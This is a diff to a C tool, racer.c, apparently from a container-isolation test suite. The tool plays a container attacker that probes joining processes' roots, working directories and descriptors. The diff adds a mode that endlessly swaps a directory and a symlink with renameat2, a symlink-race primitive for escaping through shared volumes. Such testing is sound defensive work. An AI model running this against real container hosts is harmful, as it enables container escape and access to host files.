@@ -2,6 +2,9 @@
  * racer.c - what an attacker runs in a container whose pid namespace others join: looks for each new process whether
  * its root, its working directory or its descriptors can be opened, as long as it lives.
  *
+ * "racer DIRECTORY TARGET", on the host: swaps the directory "a" and the symlink "b" to TARGET in DIRECTORY for ever, as
+ * another container may in a shared volume.
+ *
  * Prints "ready", then a line "reached PID COMM WHAT" for each success.  Needs nothing of the image.
  */
 #include <dirent.h>
@@ -75,12 +78,24 @@ static void try_fds(int pid)
 	}
 }
 
-int main(void)
+static int swap(const char *directory, const char *target)
+{
+	if (chdir(directory) < 0 || mkdir("a", 0755) < 0 || mkdir("a/inner", 0755) < 0 || symlink(target, "b") < 0) {
+		perror(directory);
+		return 1;
+	}
+	for (;;)
+		(void)renameat2(AT_FDCWD, "a", AT_FDCWD, "b", RENAME_EXCHANGE);
+}
+
+int main(int argc, char **argv)
 {
 	int next = getpid() + 1;
 
 	puts("ready");
 	fflush(stdout);
+	if (argc == 3)
+		return swap(argv[1], argv[2]);
 	for (;;) {
 		for (int pid = next; pid < next + LOOK_AHEAD; pid++) {
 			char path[32];
